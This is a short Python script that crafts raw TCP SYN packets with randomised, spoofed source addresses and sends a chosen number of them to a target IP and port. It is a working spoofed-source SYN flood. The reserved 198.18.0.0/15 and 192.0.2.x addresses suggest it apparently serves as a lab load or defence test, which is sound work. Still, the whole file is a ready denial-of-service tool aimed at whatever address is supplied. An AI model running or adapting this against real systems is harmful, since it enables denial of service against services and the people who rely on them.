"""SYNs from addresses that nobody has. Usage: flood.py DEVICE VIP PORT COUNT SEED; prints how many were sent."""

import random
import socket
import struct
import sys
import time

from frames import ethernet, ipv4, resolve, tcp, wire

device, vip, port = sys.argv[1], socket.inet_aton(sys.argv[2]), int(sys.argv[3])
count, seed = int(sys.argv[4]), int(sys.argv[5])
dice = random.Random(seed)
endpoint = wire(device)
weir = resolve(endpoint, socket.inet_aton("192.0.2.78"), vip)
# MSS, SACK permitted, timestamps, window scale: what a Linux client offers.
options = bytes([2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7])

for number in range(count):
    source = struct.pack("!I", 0xC6120000 + dice.randrange(1 << 17))  # 198.18.0.0/15
    segment = tcp(source, vip, (dice.randrange(1024, 65536), port), dice.randrange(2**32), 0, 0x02, b"", options)
    endpoint.send(ethernet(weir, 0x0800, ipv4(source, vip, 6, segment)))
    if number % 64 == 63:
        time.sleep(0.001)  # the queue of the device is short
print(count)
